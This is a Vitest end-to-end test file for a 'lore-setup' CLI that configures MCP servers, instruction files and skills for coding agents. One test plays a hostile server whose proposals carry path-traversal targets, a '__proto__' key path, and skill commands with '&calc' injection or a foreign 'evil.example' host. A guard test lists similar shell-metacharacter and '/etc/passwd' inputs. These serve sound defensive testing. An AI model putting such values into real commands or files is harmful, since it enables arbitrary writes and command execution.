import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawn } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { startServer, type TestServer } from "./server";

/**
 * `npx lore-setup` (bin/lore-setup.mjs) end to end: a temporary project with lockfiles and an
 * instruction file, a real local Lore, the real `skills` CLI for the installs, and every network
 * call outside the local server refused by a preloaded guard. LORE_SETUP_TRANSCRIPT=1 prints what
 * the CLI showed.
 */
const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
const CLI = path.join(ROOT, "bin", "lore-setup.mjs");
const SKILLS = path.join(ROOT, "node_modules", "skills", "bin", "cli.mjs");
const GUARD = path.join(ROOT, "test", "e2e", "fixtures", "no-network.mjs");

let server: TestServer;
let key: string;
const temp: string[] = [];
const transcript: string[] = [];
const hono = `hono-routes-${Date.now().toString(36)}`;

function tmp(prefix: string) {
  const d = mkdtempSync(path.join(tmpdir(), prefix));
  temp.push(d);
  return d;
}

async function api(method: string, p: string, body?: unknown, token?: string) {
  const r = await fetch(server.origin + p, { method, headers: { "content-type": "application/json", ...(token ? { authorization: `Bearer ${token}` } : {}) }, body: body === undefined ? undefined : JSON.stringify(body) });
  return { status: r.status, body: (await r.json()) as any };
}

async function run(cwd: string, args: string[], extraEnv: Record<string, string> = {}) {
  const home = extraEnv.HOME ?? tmp("lore-setup-home-");
  const log = path.join(home, "blocked.log");
  const child = spawn(process.execPath, ["--import", GUARD, CLI, ...args], {
    cwd,
    stdio: ["ignore", "pipe", "pipe"],
    env: {
      PATH: process.env.PATH,
      HOME: home,
      LORE_API_KEY: key,
      LORE_URL: server.origin,
      LORE_SKILLS_CLI: SKILLS,
      // The guard is inherited by the skills CLI the setup command starts.
      NODE_OPTIONS: `--import ${GUARD}`,
      NO_NETWORK_LOG: log,
      DISABLE_TELEMETRY: "1",
      DO_NOT_TRACK: "1",
      NO_COLOR: "1",
      ...extraEnv,
    },
  });
  let out = "";
  child.stdout.on("data", (d) => (out += d));
  child.stderr.on("data", (d) => (out += d));
  const timer = setTimeout(() => child.kill("SIGKILL"), 150_000);
  const code = await new Promise<number | null>((r) => child.on("close", r));
  clearTimeout(timer);
  const blocked = existsSync(log) ? readFileSync(log, "utf8").split("\n").filter(Boolean) : [];
  transcript.push(`$ npx lore-setup ${args.join(" ")}\n${out}(exit ${code})`);
  return { code, out, blocked };
}

/** Every file under a folder with its bytes (to prove a run changed nothing); a link is shown as its target. */
function snapshot(dir: string, base = dir): Record<string, string> {
  const out: Record<string, string> = {};
  for (const f of readdirSync(dir)) {
    const p = path.join(dir, f);
    if (lstatSync(p).isSymbolicLink()) out[path.relative(base, p)] = `-> ${readlinkSync(p)}`;
    else if (statSync(p).isDirectory()) Object.assign(out, snapshot(p, base));
    else out[path.relative(base, p)] = readFileSync(p).toString("base64");
  }
  return out;
}

const CLAUDE_MD = "# Shop\r\n\r\nRun `pnpm test` before every commit.\r\nNever edit generated files.\r\n";

function sampleProject() {
  const dir = tmp("lore-setup-project-");
  writeFileSync(path.join(dir, "package.json"), JSON.stringify({ name: "shop", dependencies: { react: "^18.2.0", hono: "^4.0.0" }, devDependencies: { vitest: "^1.0.0" } }, null, 2));
  writeFileSync(
    path.join(dir, "package-lock.json"),
    JSON.stringify({
      name: "shop",
      lockfileVersion: 3,
      packages: {
        "": { name: "shop", dependencies: { react: "^18.2.0", hono: "^4.0.0" }, devDependencies: { vitest: "^1.0.0" } },
        "node_modules/react": { version: "18.2.0" },
        "node_modules/hono": { version: "4.0.0" },
        "node_modules/vitest": { version: "1.6.0" },
        "node_modules/loose-envify": { version: "1.4.0" },
      },
    }),
  );
  writeFileSync(path.join(dir, "requirements.txt"), "# tools\ndjango==4.2\nrequests>=2.31 ; python_version >= '3.8'\n-e .\n");
  writeFileSync(path.join(dir, "go.mod"), "module example.com/shop\n\ngo 1.22\n\nrequire (\n\tgithub.com/gin-gonic/gin v1.9.0\n\tgolang.org/x/net v0.20.0 // indirect\n)\n");
  writeFileSync(path.join(dir, "Cargo.lock"), 'version = 3\n\n[[package]]\nname = "shop-cli"\nversion = "0.1.0"\n\n[[package]]\nname = "tokio"\nversion = "1.38.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n');
  writeFileSync(path.join(dir, "CLAUDE.md"), CLAUDE_MD);
  return dir;
}

beforeAll(async () => {
  server = await startServer();
  const signup = await api("POST", "/v1/auth/signup", { email: `setup-cli-${Date.now()}@example.com`, password: "correct horse battery" });
  const agent = await api("POST", "/v1/agents", { handle: `setup-cli-${Date.now().toString(36)}` }, signup.body.token);
  key = agent.body.apiKey;
  const publisher = await api("POST", "/v1/auth/signup", { email: `setup-pub-${Date.now()}@example.com`, password: "correct horse battery" });
  const md = `---\nname: ${hono}\ndescription: Writes Hono routes with typed validators\n---\n\n# ${hono}\n\nUse zValidator for every body.\n`;
  const pub = await api("POST", "/v1/me/skills", { category: "backend", tags: ["hono"], files: [{ path: "SKILL.md", content: md }] }, publisher.body.token);
  expect(pub.status, JSON.stringify(pub.body)).toBe(201);
});

afterAll(async () => {
  if (process.env.LORE_SETUP_TRANSCRIPT) console.log(transcript.join("\n\n"));
  await server?.stop();
  for (const d of temp) rmSync(d, { recursive: true, force: true });
});

describe("npx lore-setup", () => {
  it("dry run writes nothing; --yes writes the MCP config, the instruction block and the skills; a second run changes nothing", async () => {
    const dir = sampleProject();
    const before = snapshot(dir);

    const dry = await run(dir, ["--dry-run"]);
    expect(dry.code, dry.out).toBe(0);
    expect(snapshot(dir)).toEqual(before);
    expect(dry.out).toContain("harness     claude-code (detected");
    expect(dry.out).toMatch(/stack {7}8 dependencies from package-lock\.json, requirements\.txt, go\.mod, Cargo\.lock/);
    expect(dry.out).toContain("+++ b/.mcp.json");
    expect(dry.out).toContain("+++ b/CLAUDE.md (CRLF line endings kept)");
    expect(dry.out).toContain("+<!-- service:begin v1 updated=");
    expect(dry.out).toContain(`$ npx skills add ${server.origin} --skill lore -a claude-code -y`);
    expect(dry.out).toContain(`--skill ${hono} -a claude-code -y`);
    expect(dry.out).toMatch(/Dry run: 2 file\(s\) and 2 command\(s\) not applied/);
    expect(dry.out).not.toContain(key);

    const yes = await run(dir, ["--yes"]);
    expect(yes.code, yes.out).toBe(0);
    expect(yes.blocked).toEqual([]);
    expect(yes.out).not.toContain(key);
    const mcp = JSON.parse(readFileSync(path.join(dir, ".mcp.json"), "utf8"));
    expect(mcp).toEqual({ mcpServers: { lore: { type: "http", url: `${server.origin}/v1/mcp`, headers: { Authorization: "Bearer ${LORE_API_KEY}" } } } });
    const claude = readFileSync(path.join(dir, "CLAUDE.md"), "utf8");
    expect(claude.startsWith(CLAUDE_MD)).toBe(true);
    expect(claude).toMatch(/\r\n<!-- service:begin v1 updated=\d{4}-\d{2}-\d{2} -->\r\n## Lore\r\n/);
    expect(claude.endsWith("<!-- service:end -->\r\n")).toBe(true);
    const start = await (await fetch(`${server.origin}/v1/start-here.md`)).text();
    expect(readFileSync(path.join(dir, ".claude/skills/lore/SKILL.md"), "utf8")).toBe(start);
    expect(readFileSync(path.join(dir, `.claude/skills/${hono}/SKILL.md`), "utf8")).toContain("zValidator");
    // The key is in no file the setup wrote.
    for (const [f, b64] of Object.entries(snapshot(dir))) expect(Buffer.from(b64, "base64").toString("utf8"), f).not.toContain(key);

    const after = snapshot(dir);
    const again = await run(dir, ["--yes"]);
    expect(again.code, again.out).toBe(0);
    expect(again.out).toContain("Nothing to change: this project is set up.");
    expect(snapshot(dir)).toEqual(after);
  });

  it("codex: merges into an existing config.toml and AGENTS.md, keeps what was there; refuses a file with two blocks", async () => {
    const dir = tmp("lore-setup-codex-");
    mkdirSync(path.join(dir, ".codex"));
    const toml = 'model = "gpt-5"\n\n[mcp_servers.other]\ncommand = "other-mcp"\n';
    writeFileSync(path.join(dir, ".codex/config.toml"), toml);
    writeFileSync(path.join(dir, "AGENTS.md"), "# Agents\n\nBe brief.\n");
    const r = await run(dir, ["--harness", "codex", "--yes", "--no-skills"]);
    expect(r.code, r.out).toBe(0);
    expect(readFileSync(path.join(dir, ".codex/config.toml"), "utf8")).toBe(`${toml}\n[mcp_servers.lore]\nurl = "${server.origin}/v1/mcp"\nbearer_token_env_var = "LORE_API_KEY"\n`);
    expect(readFileSync(path.join(dir, "AGENTS.md"), "utf8")).toMatch(/^# Agents\n\nBe brief\.\n\n<!-- service:begin v1 updated=/);
    const again = await run(dir, ["--harness", "codex", "--yes", "--no-skills"]);
    expect(again.out).toContain("Nothing to change");

    writeFileSync(path.join(dir, "AGENTS.md"), `${readFileSync(path.join(dir, "AGENTS.md"), "utf8")}\n<!-- service:begin v1 updated=2030-01-01 -->\nold\n<!-- service:end -->\n`);
    const bad = await run(dir, ["--harness", "codex", "--yes", "--no-skills"]);
    expect(bad.code).toBe(1);
    expect(bad.out).toMatch(/Lore answered 400: AGENTS\.md has 2 service blocks/);
  });

  it("a block codex wrote into AGENTS.md does not stop claude-code and gemini from getting their own file's section", async () => {
    const dir = tmp("lore-setup-cross-");
    writeFileSync(path.join(dir, "AGENTS.md"), "# Agents\n");
    writeFileSync(path.join(dir, "GEMINI.md"), "# Gemini\n");
    expect((await run(dir, ["--harness", "codex", "--yes", "--no-skills"])).code).toBe(0);
    const agentsMd = readFileSync(path.join(dir, "AGENTS.md"), "utf8");
    expect(agentsMd).toMatch(/^# Agents\n\n<!-- service:begin v1 /);

    const claude = await run(dir, ["--harness", "claude-code", "--yes", "--no-skills"]);
    expect(claude.code, claude.out).toBe(0);
    expect(claude.out).not.toContain("AGENTS.md: already up to date");
    expect(claude.out).toContain("wrote CLAUDE.md");
    expect(readFileSync(path.join(dir, "CLAUDE.md"), "utf8")).toMatch(/^<!-- service:begin v1 updated=.*\n## Lore\n/);
    const gemini = await run(dir, ["--harness", "gemini", "--yes", "--no-skills"]);
    expect(gemini.code, gemini.out).toBe(0);
    expect(readFileSync(path.join(dir, "GEMINI.md"), "utf8")).toMatch(/^# Gemini\n\n<!-- service:begin v1 /);
    expect(readFileSync(path.join(dir, "AGENTS.md"), "utf8")).toBe(agentsMd);
    expect((await run(dir, ["--harness", "claude-code", "--yes", "--no-skills"])).out).toContain("CLAUDE.md: already up to date");
  });

  it("never reads or writes through a symbolic link: a linked CLAUDE.md, .mcp.json or .claude folder stays untouched, and the CLI says why", async () => {
    const dir = sampleProject();
    const outside = tmp("lore-setup-outside-");
    writeFileSync(path.join(outside, ".bashrc"), "alias ll='ls -l'\nexport OUTSIDE_MARKER=not-for-lore\n");
    writeFileSync(path.join(outside, "settings.json"), '{"outside": "OUTSIDE_MARKER"}\n');
    mkdirSync(path.join(outside, "claude"));
    writeFileSync(path.join(outside, "claude", "CLAUDE.md"), "# OUTSIDE_MARKER\n");
    rmSync(path.join(dir, "CLAUDE.md"));
    symlinkSync(path.join(outside, ".bashrc"), path.join(dir, "CLAUDE.md"));
    symlinkSync(path.join(outside, "settings.json"), path.join(dir, ".mcp.json"));
    symlinkSync(path.join(outside, "claude"), path.join(dir, ".claude"));
    // A lockfile linked out of the project is not read either (its lines would go to Lore as a stack).
    rmSync(path.join(dir, "requirements.txt"));
    writeFileSync(path.join(outside, "pins.txt"), "outside-marker-pkg==1.0\n");
    symlinkSync(path.join(outside, "pins.txt"), path.join(dir, "requirements.txt"));
    const outsideBefore = snapshot(outside);
    const projectBefore = snapshot(dir);

    const r = await run(dir, ["--harness", "claude-code", "--yes", "--no-skills"]);
    expect(r.code, r.out).toBe(0);
    expect(snapshot(outside)).toEqual(outsideBefore);
    expect(snapshot(dir)).toEqual(projectBefore);
    expect(lstatSync(path.join(dir, "CLAUDE.md")).isSymbolicLink()).toBe(true);
    // Nothing from behind a link reached the output (so neither the diff nor advise saw it).
    expect(r.out).not.toMatch(/OUTSIDE_MARKER|outside-marker/i);
    expect(r.out).toContain("not read    CLAUDE.md: skipped, CLAUDE.md is a symbolic link; lore-setup never reads or writes through one");
    expect(r.out).toContain("not read    .claude/CLAUDE.md: skipped, .claude is a symbolic link");
    expect(r.out).toContain("not read    requirements.txt: skipped, requirements.txt is a symbolic link");
    expect(r.out).toMatch(/stack {7}6 dependencies from package-lock\.json, go\.mod, Cargo\.lock/);
    expect(r.out).toMatch(/# Create CLAUDE\.md \(not applied: CLAUDE\.md is a symbolic link; lore-setup never reads or writes through one\)\n {4}## Lore/);
    expect(r.out).toContain("(not applied: .mcp.json is a symbolic link; lore-setup never reads or writes through one)");
    expect(r.out).toContain("Nothing lore-setup can change by itself");
  });

  it("treats advise's paths and commands as hostile: nothing out of the project, ~/ only with --user (never by the server's scope), no foreign or shell-unsafe skill source", async () => {
    // A Lore that answers with every path trick: the CLI alone decides where a file may go.
    const proposal = (file: string, scope: string, content = "HOSTILE\n") => ({ id: `instructions:${file}`, kind: "instructions", title: `Write ${file}`, reason: "r", action: "create", file, scope, format: "markdown", content, snippet: content, command: null, merge: null, literalKey: false, notes: [] });
    const skill = (command: string) => ({ id: `skill:${command}`, kind: "skill", title: `Skill ${command}`, reason: "r", action: "run", file: ".claude/skills/x", scope: "project", format: null, content: null, snippet: null, command, merge: null, literalKey: false, notes: [] });
    let origin = "";
    const proposals = () => [
      proposal("../../escaped.md", "project"),
      proposal("sub/../../escaped2.md", "project"),
      proposal("/tmp/lore-setup-absolute-escape.md", "project"),
      proposal("~/planted.md", "project"),
      proposal("~/../home-escape.md", "user"),
      proposal("inside.md", "user", "inside\n"),
      proposal("~/.config/ok.md", "user", "ok\n"),
      { ...proposal("cfg.json", "project"), kind: "mcp_server", action: "merge", format: "json", merge: { path: ["__proto__", "polluted"], value: true } },
      skill(`npx skills add ${origin}&calc --skill lore -a claude-code -y`),
      skill("npx skills add https://skills.evil.example --skill lore -a claude-code -y"),
      skill(`npx skills add ${origin} --skill lore -a hermes-agent -g -y`),
    ];
    const fake: Server = createServer((req, res) => {
      res.setHeader("content-type", "application/json");
      res.end(JSON.stringify({ harness: "claude-code", name: "Claude Code", asOfDate: "2026-01-01", mcpUrl: null, proposals: proposals(), notes: [] }));
    });
    await new Promise<void>((r) => fake.listen(0, "127.0.0.1", r));
    origin = `http://127.0.0.1:${(fake.address() as AddressInfo).port}`;
    try {
      const base = tmp("lore-setup-hostile-");
      const dir = path.join(base, "a", "b", "project");
      mkdirSync(dir, { recursive: true });
      writeFileSync(path.join(dir, "cfg.json"), "{}\n");
      const home = path.join(base, "home");
      mkdirSync(home);

      const plain = await run(dir, ["--harness", "claude-code", "--yes", "--url", origin], { HOME: home });
      expect(plain.code, plain.out).toBe(0);
      // What was written: inside.md in the project (scope "user" from the server changes nothing), no more.
      expect(readdirSync(path.join(base, "a")).sort()).toEqual(["b"]);
      expect(readdirSync(path.join(base, "a", "b")).sort()).toEqual(["project"]);
      expect(readdirSync(home).filter((f) => f !== "blocked.log")).toEqual([]);
      expect(readdirSync(dir).sort()).toEqual(["cfg.json", "inside.md"]);
      expect(readFileSync(path.join(dir, "inside.md"), "utf8")).toBe("inside\n");
      expect(readFileSync(path.join(dir, "cfg.json"), "utf8")).toBe("{}\n");
      expect(plain.out).toContain("(not applied: ../../escaped.md is outside ");
      expect(plain.out).toContain("(not applied: sub/../../escaped2.md is outside ");
      expect(plain.out).toContain("(not applied: /tmp/lore-setup-absolute-escape.md is not a path inside ");
      expect(plain.out).toContain("(not applied: ~/planted.md is a user-level file (run again with --user");
      expect(plain.out).toContain("(not applied: ~/.config/ok.md is a user-level file");
      expect(plain.out).toContain("# Write cfg.json (not applied: the proposal's content or key path is not usable)");
      expect(plain.out).toContain("(not applied: this harness installs skills by hand)");
      expect(plain.out).toContain(`(not applied: it installs from https://skills.evil.example, not from Lore at ${origin})`);
      expect(plain.out).toContain("(not applied: it installs into your user-level skills folder (run again with --user");
      expect(plain.out).toContain("wrote inside.md");
      expect(plain.out).not.toMatch(/^installed /m);

      const user = await run(dir, ["--harness", "claude-code", "--yes", "--user", "--no-skills", "--url", origin], { HOME: home });
      expect(user.code, user.out).toBe(0);
      expect(user.out).toContain("(not applied: ~/../home-escape.md is outside ");
      expect(user.out).toContain("wrote ~/planted.md");
      expect(user.out).toContain("wrote ~/.config/ok.md");
      expect(readFileSync(path.join(home, ".config", "ok.md"), "utf8")).toBe("ok\n");
      // Nothing landed anywhere but the project and the home folder.
      expect(readdirSync(base).sort()).toEqual(["a", "home"]);
      expect(readdirSync(path.join(base, "a")).sort()).toEqual(["b"]);
      expect(readdirSync(path.join(base, "a", "b")).sort()).toEqual(["project"]);
      expect(existsSync("/tmp/lore-setup-absolute-escape.md")).toBe(false);
    } finally {
      await new Promise((r) => fake.close(r));
    }
  });

  it("the guards the CLI runs: locate keeps paths in their root and off links; the skills command on Windows goes through the shell only with safe arguments", async () => {
    const cli: any = await import(pathToFileURL(CLI).href);
    const root = tmp("lore-setup-locate-");
    mkdirSync(path.join(root, "real"));
    symlinkSync(tmpdir(), path.join(root, "linked"));
    expect(cli.locate(root, "real/new/file.md")).toEqual({ target: path.join(realpathSync(root), "real", "new", "file.md") });
    for (const bad of ["../x", "real/../../x", "/etc/passwd", "~/x", "C:\\x", "..\\x", "", "a\u0000b", "."]) expect(cli.locate(root, bad).refused, bad).toBeTruthy();
    expect(cli.locate(root, "linked/x.md")).toMatchObject({ refused: "linked is a symbolic link; lore-setup never reads or writes through one", link: true });
    expect(cli.locate(root, "x.md", "~/x.md")).toEqual({ target: path.join(realpathSync(root), "x.md") });

    const r = { source: "https://lore.example.com", skill: "hono-routes", agent: "claude-code", global: false };
    expect(cli.skillsSpawn(r, { platform: "linux", local: "" })).toEqual({ cmd: "npx", args: ["--yes", "skills", "add", "https://lore.example.com", "--skill", "hono-routes", "-a", "claude-code", "-y"], shell: false });
    expect(cli.skillsSpawn({ ...r, global: true }, { platform: "win32", local: "" })).toEqual({ cmd: "npx.cmd --yes skills add https://lore.example.com --skill hono-routes -a claude-code -g -y", args: [], shell: true });
    expect(cli.skillsSpawn(r, { platform: "win32", local: "C:\\skills\\cli.mjs", execPath: "node.exe" })).toEqual({ cmd: "node.exe", args: ["C:\\skills\\cli.mjs", "add", "https://lore.example.com", "--skill", "hono-routes", "-a", "claude-code", "-y"], shell: false });
    for (const source of ["https://x&calc", "https://x|y", "https://x%PATH%", 'https://x"', "https://x^y", "https://x y", "https://x(y)", "https://x;y", "https://x<y", "https://x!y"]) {
      expect(() => cli.skillsSpawn({ ...r, source }, { platform: "win32", local: "" }), source).toThrow(/refusing to run the skills CLI/);
    }
    // The command shape the plan accepts cannot carry any of them to begin with.
    const advice = (command: string) => ({ proposals: [{ id: "s", kind: "skill", action: "run", command, notes: [] }] });
    for (const source of ["https://x&calc", "https://x%PATH%", "https://x^y", "https://x\"y"]) {
      expect(cli.plan(root, advice(`npx skills add ${source} --skill a -a b -y`), { skills: true }).runs, source).toEqual([]);
    }
    expect(cli.plan(root, advice("npx skills add https://lore.example.com --skill a -a b -y"), { skills: true, lore: "https://lore.example.com" }).runs).toHaveLength(1);
  });

  it("a refused key and a missing key are one clear line each, without the key", async () => {
    const dir = sampleProject();
    const refused = await run(dir, ["--dry-run"], { LORE_API_KEY: "lore_thisKeyDoesNotExistAnywhere0000000000000000" });
    expect(refused.code).toBe(1);
    expect(refused.out).toMatch(/refused the key in LORE_API_KEY \(401\)/);
    expect(refused.out).not.toContain("lore_thisKeyDoesNotExist");
    const missing = await run(dir, ["--dry-run"], { LORE_API_KEY: "" });
    expect(missing.code).toBe(2);
    expect(missing.out).toMatch(/LORE_API_KEY is not set/);
  });
});
